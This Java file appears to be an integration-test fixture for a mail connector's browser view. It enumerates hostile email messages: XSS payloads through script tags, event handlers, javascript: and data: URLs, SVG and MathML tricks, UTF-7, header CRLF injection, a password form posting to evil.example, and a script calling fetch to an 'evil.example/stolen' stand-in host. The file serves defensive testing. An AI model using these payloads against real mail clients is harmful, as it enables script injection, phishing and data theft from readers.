package org.smtpconnector.it.browser;

import java.util.Collections;

/**
 * Messages that try to do something in the browser of who reads them. A script that runs says so on the console and calls
 * {@value #EVIL}; anything that is loaded comes from there.
 */
enum Hostile {
    SCRIPT(html("<script>HARM</script><script src='https://evil.example/a.js'></script>")),
    EVENT_HANDLERS(
            html(
                    """
                    <img src=x onerror="HARM"><body onload="HARM"><details open ontoggle="HARM">x</details>
                    <input autofocus onfocus="HARM"><video><source onerror="HARM"></video>
                    <div onpointerenter="HARM" style="width:2000px;height:2000px">over</div>
                    <marquee onstart="HARM">m</marquee><a onmouseover="HARM">a</a>""")),
    JAVASCRIPT_ADDRESSES(
            html(
                    """
                    <a id="target" href="javascript:HARM">click</a><iframe src="javascript:HARM"></iframe>
                    <a href="jav&#x09;ascript:HARM">click</a><a href="data:text/html,<script>HARM</script>">click</a>
                    <form action="javascript:HARM"><button>go</button></form><base href="https://evil.example/">""")),
    SVG(
            html(
                    """
                    <svg onload="HARM"><script>HARM</script><animate onbegin="HARM" attributeName="x" dur="1s"/>
                    <image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#a"/>
                    <foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>
                    <math><mtext></mtext><mglyph><style><img src=x onerror="HARM"></style></math>""")),
    STYLE(
            html(
                    """
                    <style>@import 'https://evil.example/a.css'; @font-face { font-family: f; src: url(https://evil.example/f) }
                    body { background: url(https://evil.example/b.png); font-family: f }
                    #cover { position: fixed; inset: 0; z-index: 999999; background: red }</style>
                    <div id="cover" style="position:fixed;inset:0;z-index:9999;background:url('https://evil.example/c.png')">
                    covered</div><link rel="stylesheet" href="https://evil.example/l.css">""")),
    REMOTE(
            html(
                    """
                    <img src="https://evil.example/1.png"><img srcset="https://evil.example/2.png 2x">
                    <picture><source srcset="https://evil.example/3.png"><img></picture>
                    <video poster="https://evil.example/4.png" src="https://evil.example/5.mp4" autoplay></video>
                    <audio src="https://evil.example/6.mp3" autoplay></audio><embed src="https://evil.example/7">
                    <object data="https://evil.example/8"></object><iframe src="https://evil.example/9"></iframe>
                    <table background="https://evil.example/10.png"><tr><td>x</table><input type=image src="//evil.example/11">
                    <link rel="preload" as="image" href="https://evil.example/12"><link rel="dns-prefetch" href="//evil.example">
                    <img src="//evil.example/13.png"><img src="http://127.0.0.1:9/14.png">""")),
    FORM(
            html(
                    """
                    <form action="https://evil.example/login" method="post"><input name="password" autofocus>
                    <button id="target" formaction="https://evil.example/b">Log in again</button></form>
                    <form action="/api/messages?q=is:any" method="post"><input name="_method" value="DELETE"><button>x</button></form>""")),
    REFRESH(
            html(
                    """
                    <meta http-equiv="refresh" content="0;url=https://evil.example/">
                    <meta http-equiv="Content-Security-Policy" content="default-src *"><base target="_top">
                    <a id="target" target="_top" href="https://evil.example/top">top</a>""")),
    BREAKS_OUT(
            html(
                    """
                    </body></html><!--><script>HARM</script--><textarea></textarea><script>HARM</script></textarea>
                    <noscript><p title="</noscript><img src=x onerror=HARM>"></noscript>
                    <template><script>HARM</script></template><xmp><p title="</xmp><img src=x onerror=HARM>"></xmp>""")),
    HEADER_MARKUP(
            """
            From: "<script>HARM</script>" <"<img/src=x/onerror=HARM>"@evil.example>
            To: "><svg onload=HARM>" <you@example.org>
            Subject: </title><script>HARM</script><img src=x onerror="HARM">
            X-<b>Name</b>: "><img src=x onerror="HARM">

            </pre><script>HARM</script>
            https://evil.example/"onmouseover="HARM javascript:HARM"""),
    HEADER_INJECTION(
            """
            From: a@evil.example
            Subject: =?utf-8?Q?Hello=0D=0ASet-Cookie:_harmed=3D1=0D=0A=0D=0A<script>HARM</script>?=
            Content-Type: text/html; charset="utf-8;X: y"; name="=?utf-8?Q?a=0D=0AX-Harm:_1?="
            Content-Disposition: attachment; filename="..\\\\../<script>HARM</script>\\".html"

            <script>HARM</script>"""),
    HTML_ATTACHMENT(
            """
            From: a@evil.example
            Subject: Attached
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/html; name="page.html"
            Content-Disposition: attachment; filename="page.html"

            <script>HARM</script>
            --b
            Content-Type: image/png; name="picture.png"
            Content-Disposition: inline; filename="picture.png"

            <svg xmlns="http://www.w3.org/2000/svg" onload="HARM"><script>HARM</script></svg>
            --b
            Content-Type: image/svg+xml; name="picture.svg"
            Content-Disposition: inline; filename="picture.svg"

            <svg xmlns="http://www.w3.org/2000/svg" onload="HARM"><script>HARM</script></svg>
            --b--"""),
    NESTED("From: a@evil.example\nSubject: Deep\nMIME-Version: 1.0\n" + nested(1000)),
    /** Ten megabytes. */
    MANY_PARTS("From: a@evil.example\nSubject: Many\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n"
            + "\n--b\nContent-Type: text/html\n\n<img src=x onerror=HARM>".repeat(45_000)),
    BROKEN_CHARSETS(
            """
            From: =?nonsense?B?////?= <a@evil.example>
            Subject: =?utf-8?B?8J+SqfCfkqnDKA==?= =?utf-7?Q?+ADw-script+AD4-HARM+ADw-/script+AD4-?=
            MIME-Version: 1.0
            Content-Type: text/html; charset=utf-7

            +ADw-script+AD4-HARM+ADw-/script+AD4- \u202egpj.exe\u202c \u0000 \ufffd"""),
    NO_HEADER_AT_ALL("<script>HARM</script>\nHARM\n\n<img src=x onerror=HARM>");

    static final String EVIL = "https://evil.example/";

    /** The deeds of a script that runs: it tells, and it tries to reach the page, its data and the network. */
    static final String TELLTALE = "harmed-by-mail";

    private static final String SCRIPT_TEXT = "console.error('" + TELLTALE + "');"
            + "try{top.document.title='" + TELLTALE + "'}catch(e){};"
            + "fetch('https://evil.example/stolen');alert('" + TELLTALE + "')";

    private final String message;

    Hostile(String message) {
        this.message = message;
    }

    /** Sends it under its name, which stands in the envelope. */
    Mail mail() {
        String sender = name().toLowerCase(java.util.Locale.ROOT) + "@evil.example";
        return Mail.raw(sender, "you@example.org")
                .line(message.replace("HARM", SCRIPT_TEXT).stripTrailing());
    }

    private static String html(String body) {
        return "From: a@evil.example\nSubject: Hello\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
                + "<p id=\"first\">Dear reader,</p>" + body;
    }

    private static String nested(int depth) {
        StringBuilder message = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            message.append("Content-Type: multipart/mixed; boundary=b%d\n\n--b%1$d\n".formatted(i));
        }
        message.append("Content-Type: text/html\n\n<script>HARM</script>deep\n");
        return message.append(String.join("\n", Collections.nCopies(depth, "--")))
                .toString();
    }
}
